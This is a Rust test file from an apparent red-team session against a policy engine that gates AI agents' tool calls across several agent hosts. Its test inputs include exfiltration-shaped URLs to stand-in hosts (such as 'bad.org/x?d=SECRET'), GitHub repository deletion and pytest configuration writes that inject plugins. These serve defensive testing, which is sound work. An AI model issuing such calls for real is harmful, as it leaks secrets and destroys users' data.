@@ -1,0 +1,186 @@
+//! Red team session 7 (black box, 2026-12-02 00:37 UTC): one test per class, with the
+//! workplace's `findings-session7.jsonl` ids where a row is one of them.
+
+use super::*;
+
+/// The web setup of the red team (`w7`): the shipped policy plus webfetch and MCP rules.
+fn web_project() -> Project {
+    let p = project(Shipped);
+    p.write(
+        "policies/web.pol",
+        r#"deny webfetch glob "domain:evil.com" { id no-evil }
+deny webfetch glob "*.evil.com" { id no-evil-sub }
+deny webfetch glob "domain:bad.org" { id no-bad }
+allow webfetch glob "domain:docs.rs" { id docs }
+deny mcp__github__delete_repo { id no-delete-repo }
+allow mcp__docs__* { id docs-mcp }
+"#,
+    );
+    p.build_trusted();
+    p
+}
+
+fn claude_tool(p: &Project, tool: &str, input: serde_json::Value) -> String {
+    let root = p.dir.path().canonicalize().unwrap();
+    let stdin = json!({"session_id": format!("s{}", input.to_string().len()), "cwd": root,
+        "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": input,
+        "permission_mode": "default"});
+    common::host_verdict(p, "claude", &stdin)
+}
+
+/// C7-urlfields: URL arguments of MCP tools (and of Droid's `FetchUrl`) meet the webfetch
+/// deny rules; a webfetch allow never grants an MCP tool, and a plain MCP call under its
+/// allow stays allowed.
+#[test]
+fn s7_urls_in_mcp_inputs_meet_webfetch_denies() {
+    let p = web_project();
+    for (tool, input, want) in [
+        (
+            "mcp__docs__fetch",
+            json!({"url": "https://bad.org/x?d=SECRET"}),
+            "deny",
+        ),
+        ("mcp__docs__fetch", json!({"url": "bad.org"}), "deny"),
+        (
+            "mcp__docs__fetch",
+            json!({"uri": "https://evil.com/x"}),
+            "deny",
+        ),
+        (
+            "mcp__docs__browser_navigate",
+            json!({"url": "https://a.evil.com/"}),
+            "deny",
+        ),
+        (
+            "mcp__docs__fetch",
+            json!({"request": {"url": "https://bad.org/x"}}),
+            "deny",
+        ),
+        (
+            "mcp__docs__fetch",
+            json!({"q": "see HTTPS://bad.org/x and more"}),
+            "deny",
+        ),
+        (
+            "mcp__docs__fetch",
+            json!({"targets": ["https://docs.rs/a", "https://bad.org/b"]}),
+            "deny",
+        ),
+        (
+            "mcp__playwright__browser_navigate",
+            json!({"url": "https://bad.org/"}),
+            "deny",
+        ),
+        (
+            "mcp__fetch__fetch",
+            json!({"url": "https://bad.org/x"}),
+            "deny",
+        ),
+        // The plain forms stay as they were.
+        (
+            "mcp__docs__fetch",
+            json!({"url": "https://docs.rs/x"}),
+            "allow",
+        ),
+        ("mcp__docs__search", json!({"query": "serde"}), "allow"),
+        (
+            "mcp__other__fetch",
+            json!({"url": "https://docs.rs/x"}),
+            "none",
+        ),
+    ] {
+        assert_eq!(claude_tool(&p, tool, input.clone()), want, "{tool} {input}");
+    }
+    // More URLs than polc checks: ask, never allow.
+    let many: Vec<String> = (0..40).map(|i| format!("https://h{i}.example/x")).collect();
+    assert_eq!(
+        claude_tool(&p, "mcp__docs__fetch", json!({ "urls": many })),
+        "ask"
+    );
+    // Droid's web tool.
+    let root = p.dir.path().canonicalize().unwrap();
+    for (url, want) in [
+        ("https://bad.org/x?d=SECRET", "deny"),
+        ("https://a.evil.com/x", "deny"),
+        ("https://docs.rs/x", "allow"),
+    ] {
+        let stdin = json!({"session_id": "d1", "cwd": root, "hook_event_name": "PreToolUse",
+            "tool_name": "FetchUrl", "tool_input": {"url": url}, "permission_mode": "auto-low"});
+        assert_eq!(common::host_verdict(&p, "droid", &stdin), want, "{url}");
+    }
+}
+
+/// C7-mcpnames: Gemini's `mcp_SERVER_TOOL` (with or without `mcp_context`) and Cursor's
+/// `beforeMCPExecution` meet the MCP rules.
+#[test]
+fn s7_other_hosts_mcp_names_meet_mcp_rules() {
+    let p = web_project();
+    let root = p.dir.path().canonicalize().unwrap();
+    let gemini = |name: &str, ctx: Option<serde_json::Value>, input: serde_json::Value| {
+        let mut stdin = json!({"session_id": "g1", "cwd": root, "hook_event_name": "BeforeTool",
+            "tool_name": name, "tool_input": input});
+        if let Some(c) = ctx {
+            stdin["mcp_context"] = c;
+        }
+        common::host_verdict(&p, "gemini", &stdin)
+    };
+    let ctx = |s: &str, t: &str| Some(json!({"server_name": s, "tool_name": t, "command": "npx"}));
+    assert_eq!(
+        gemini(
+            "mcp_github_delete_repo",
+            ctx("github", "delete_repo"),
+            json!({"owner": "o"})
+        ),
+        "deny"
+    );
+    assert_eq!(
+        gemini("mcp_github_delete_repo", None, json!({"owner": "o"})),
+        "deny"
+    );
+    assert_eq!(
+        gemini(
+            "mcp_docs_fetch",
+            ctx("docs", "fetch"),
+            json!({"url": "https://bad.org/?x=1"})
+        ),
+        "deny"
+    );
+    assert_eq!(
+        gemini(
+            "mcp_docs_fetch",
+            ctx("docs", "fetch"),
+            json!({"url": "https://docs.rs/x"})
+        ),
+        "allow"
+    );
+    // `mcp_docs_x_y` without context: `docs`/`x_y` is allowed, `docs_x`/`y` is not: not allow.
+    assert_ne!(gemini("mcp_docs_x_y", None, json!({})), "allow");
+    let long = format!("mcp_{}", vec!["a"; 14].join("_"));
+    assert_ne!(gemini(&long, None, json!({})), "allow");
+    // Cursor names no server.
+    let stdin = json!({"conversation_id": "c1", "hook_event_name": "beforeMCPExecution",
+        "tool_name": "delete_repo", "tool_input": "{\"owner\":\"o\"}",
+        "command": "npx -y @modelcontextprotocol/server-github", "workspace_roots": [root]});
+    assert_eq!(common::host_verdict(&p, "cursor", &stdin), "ask");
+}
+
+/// C7-pytesttoml: pytest 9's `pytest.toml` and `.pytest.toml` are runner configuration.
+#[test]
+fn s7_pytest_toml_is_runner_configuration() {
+    expect(&[
+        (Broad, "printf '[pytest]\\n' | tee pytest.toml", AskOrDeny),
+        (Broad, "cp src/main.rs .pytest.toml", AskOrDeny),
+        (Broad, "mv src/main.rs src/pytest.toml", AskOrDeny),
+        (Broad, "cp src/main.rs src/pytest.toml.bak", Allow),
+    ]);
+    let p = project(Shipped);
+    for f in ["pytest.toml", ".pytest.toml", "src/pytest.toml"] {
+        let input =
+            json!({"file_path": p.path(f), "content": "[pytest]\naddopts = [\"-p\", \"x\"]\n"});
+        let got = tool_answer(&p, "Write", input, "");
+        assert!(
+            matches!(got.as_deref(), Some("ask") | Some("deny")),
+            "{f}: {got:?}"
+        );
+    }
+}
